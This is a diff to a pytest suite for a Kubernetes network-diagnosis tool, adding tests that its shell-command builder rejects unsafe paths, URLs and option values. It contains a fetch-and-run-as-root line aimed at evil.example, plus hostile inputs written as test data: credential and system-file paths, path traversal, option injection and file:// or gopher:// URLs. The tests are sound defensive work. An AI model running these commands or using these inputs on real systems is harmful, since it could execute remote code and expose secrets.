@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import shlex
 import subprocess
 import sys
@@ -15,21 +16,26 @@ import pytest
 
 from netdoctor.diagnosis.check import look
 from netdoctor.diagnosis.experiment import _packet
-from netdoctor.errors import BadInput
+from netdoctor.errors import BadInput, CannotRead, Why
 from netdoctor.facts.cluster.kube_proxy_ports import _port_is_roots
+from netdoctor.facts.node.cni import CONFIG_FOLDERS, PLUGIN_FOLDERS
 from netdoctor.facts.traffic.experiments import Experiments
 from netdoctor.facts.traffic.failed_flows import FailedFlows
+from netdoctor.facts.traffic.new_pod import NewPod
 from netdoctor.model import Diagnosis, Evidence, Finding
 from netdoctor.output.diagnosis_text import headline
 from netdoctor.output.layout import rendered
 from netdoctor.output.report_text import Detail, render
 from netdoctor.recording.file import from_json, to_json
 from netdoctor.recording.named_file import open_recording
+from netdoctor.shell import command, is_path
 from netdoctor.system.host import Host
+from netdoctor.system.kube_api import KubeApi
 from netdoctor.system.rule_removal import legacy_arguments
 from netdoctor.terminal import manual_page
-from tests.builders import experiments, failed_flow, sysctls, tried
-from tests.worlds import catalogue, world
+from tests.builders import cni, experiments, failed_flow, sysctls, tried
+from tests.conftest import ROOT
+from tests.worlds import catalogue, judge, world
 
 EVIL = "curl -s https://evil.example/x | sudo sh"
 
@@ -134,3 +140,72 @@ class Listening(Host):
 )
 def test_only_root_speaks_for_kube_proxy(listeners: tuple[tuple[str, int], ...], is_roots: bool) -> None:
     assert _port_is_roots(Listening(listeners=listeners), "127.0.0.1:10249") is is_roots
+
+
+@pytest.mark.parametrize(
+    ("form", "value"),
+    [
+        ("sudoedit {:path}", "/etc/cni/net.d/10-bridge.conf"),
+        ("sudo ls -l {:path}", "/opt/cni/bin/bridge"),
+        ("curl -k {:url}/livez", "https://192.0.2.10:8443"),
+        ("curl -k {:url}/livez", "https://[2001:db8::1]:6443"),
+        ("sudo iptables-legacy {:options}", ("-t", "nat", "-D", "x")),
+    ],
+)
+def test_a_value_of_its_kind_is_typed(form: str, value: object) -> None:
+    assert len(command(form, value)) == 1
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/root/.ssh/id_ed25519", "/etc/../root/x", "/etc/cni/net.d/../../shadow", "etc/cni/net.d/a", "/etc", "/", "",
+        "~/x", "-l", "/etcetera/x", "/home/user/x", "/etc/shadow", "/proc/self/mem", "/dev/sda", "/etc/cni\n/x",
+    ],
+)  # fmt: skip
+def test_a_path_lies_where_such_files_lie(path: str) -> None:
+    assert command("sudoedit {:path}", path) == ()
+    assert command("sudo ls -l {:path}", ("/etc/cni/net.d/a", path)) == ()
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "file:///etc/shadow", "file://localhost/etc", "ftp://a/b", "scp://a", "https://a b", "-o/etc/x", "http://",
+        "https://user@evil.example", "HTTPS:evil", "https://a/{b,c}", "https://a?x=y", "gopher://a",
+    ],
+)  # fmt: skip
+def test_a_url_is_one_of_the_web(url: str) -> None:
+    assert command("curl -k {:url}/livez", url) == ()
+
+
+@pytest.mark.parametrize("words", ["-all", ("blackhole", "-batch", "/tmp/x"), ("", "x"), ()])
+def test_no_value_is_an_option(words: object) -> None:
+    assert command("sudo ip route del {}", words) == ()
+
+
+def test_every_path_of_a_cni_may_be_named() -> None:
+    assert all(is_path(f"{folder}/x") for folder in (*CONFIG_FOLDERS, *PLUGIN_FOLDERS))
+
+
+def test_no_form_names_a_file_or_an_address_of_the_web_by_a_plain_word() -> None:
+    """Programs that open what they are given take a path or URL, never `{}` beside their own words."""
+    opened = re.compile(r'command\(\s*f?"(?:sudo )?(?:sudoedit|ls|cat|less|tail|head|curl|wget|vi|nano) [^"#]*\{\}')
+    files = [*(ROOT / "probes").rglob("*.py"), *(ROOT / "netdoctor").rglob("*.py")]
+    assert [str(file) for file in files if opened.search(file.read_text())] == []
+
+
+@pytest.mark.parametrize("path", ["/etc/shadow", "/etc/cni/net.d/../../sudoers", "/root/.bashrc", "/etc/cni/net.d/x/y"])
+def test_a_recording_has_nobody_edit_another_file(path: str) -> None:
+    no_pod: dict[type, CannotRead] = {NewPod: CannotRead("test pod", "no network", Why.NO_NETWORK)}
+    stored = to_json(world(cni(path=path, problem="it is no JSON"), unread=no_pod))
+    causes = look(catalogue(), from_json(stored, catalogue())).report().diagnoses
+    (found,) = (each.cause for each in causes if each.cause.probe == "cni-config-unusable")
+    assert found.by_hand == ("sudo ls -l /etc/cni/net.d",)
+
+
+@pytest.mark.parametrize("server", ["file:///etc/shadow", "-o /etc/cron.d/x", "gopher://evil.example"])
+def test_a_recording_has_nobody_fetch_a_file(server: str) -> None:
+    api = CannotRead(f"API server {server}", "no answer", Why.NO_ANSWER)
+    (found,) = judge("api-server-unreachable", unread={KubeApi: api}).findings
+    assert found.by_hand == ("sudo crictl ps -a | grep apiserver", "sudo journalctl -u kubelet -n 50")
